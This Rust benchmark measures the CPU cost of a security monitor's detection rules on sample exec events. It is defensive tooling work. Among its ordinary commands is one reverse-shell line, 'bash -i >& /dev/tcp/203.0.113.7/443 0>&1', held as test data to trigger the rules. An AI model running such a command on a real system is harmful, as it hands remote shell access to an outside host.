//! What the rules that come with shipper cost an event: `cargo bench --package shipper --bench rules`.

#![allow(missing_docs)]

#[allow(dead_code, reason = "the tests use the rest")]
#[path = "../tests/formats/events.rs"]
mod events;

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use proptest::strategy::{Strategy as _, ValueTree as _};
use proptest::test_runner::TestRunner;
use shipper::config;
use shipper::event::{Ancestor, Args, Event, FileFacts, Source};
use shipper::rules::Matcher;

/// What is executed, by path, arguments and owner of the file: what a machine does all day, and an
/// attack.
const COMMANDS: [(&str, &[&str], u32); 6] = [
    ("/usr/bin/ls", &["ls", "-l", "--color=auto"], 0),
    ("/usr/bin/bash", &["bash", "-c", "for f in *.c; do cc -O2 -c $f; done | tee build.log"], 0),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/14/cc1",
        &["cc1", "-quiet", "-I", "include", "main.c", "-o", "/tmp/ccZ.s"],
        0,
    ),
    ("/usr/bin/python3.13", &["/usr/bin/python3", "-m", "http.server", "8080"], 0),
    ("/home/alice/.cargo/bin/cargo", &["cargo", "test", "--locked"], 1000),
    ("/bin/sh", &["sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"], 0),
];

fn args(list: &[&str]) -> Args {
    Args {
        list: list.iter().map(|arg| arg.as_bytes().into()).collect(),
        count: u32::try_from(list.len()).expect("a few"),
        bytes_total: list.iter().map(|arg| arg.len() as u64 + 1).sum(),
        truncated: false,
        faulted: false,
        redacted: Vec::new(),
    }
}

fn event(path: &str, list: &[&str], uid: u32, runner: &mut TestRunner) -> Event {
    let mut exec = events::exec().new_tree(runner).expect("generates").current();
    let parent = Ancestor {
        key: exec.process.key,
        entity_id: exec.id,
        start: exec.time,
        comm: b"bash".as_slice().into(),
        executable: Some(b"/usr/bin/bash".as_slice().into()),
        args: Some(Arc::new(args(&["-bash"]))),
        source: Source::Event,
    };
    exec.ancestry = vec![parent; 8];
    exec.process.args = args(list);
    exec.process.comm = path.rsplit('/').next().unwrap_or_default().as_bytes().into();
    exec.process.executable.bytes = path.as_bytes().into();
    exec.process.env.list = vec![b"LD_PRELOAD=/usr/lib/libjemalloc.so.2".as_slice().into()];
    exec.file.path.bytes = path.as_bytes().into();
    exec.file.facts = exec.file.facts.map(|facts| FileFacts {
        uid,
        mode: 0o100_755,
        memfd: false,
        deleted: false,
        ..facts
    });
    exec.container_id = None;
    exec.failure = None;
    exec.enforcement = None;
    Event::Exec(Box::new(exec))
}

/// Processor time of this thread: what else runs on the machine does not count.
fn cpu_time() -> Duration {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::new(time.tv_sec.unsigned_abs(), u32::try_from(time.tv_nsec).expect("below a second"))
}

/// All rules, or every so many-th.
fn measure(every: usize) {
    let mut runner = TestRunner::deterministic();
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../config/rules");
    let rules = config::rules::load(&[dir]).expect("valid rules");
    let rules: Vec<_> = rules.into_iter().step_by(every).map(|tested| tested.rule).collect();
    let count = rules.len();
    let mut matcher = Matcher::new(rules);
    let rounds = 100_000_u32;
    println!("{count} rules, processor time, mean of {rounds} rounds");
    for (path, list, uid) in COMMANDS {
        let mut event = event(path, list, uid, &mut runner);
        matcher.apply(&mut event);
        let matches = match &event {
            Event::Exec(exec) => exec.matches.len(),
            _ => 0,
        };
        let begin = cpu_time();
        for _ in 0..rounds {
            matcher.apply(std::hint::black_box(&mut event));
        }
        let mean = (cpu_time() - begin) / rounds;
        println!("{mean:?} an event, {matches} matches: {}", list.join(" "));
    }
}

fn main() {
    measure(1);
    measure(2);
}
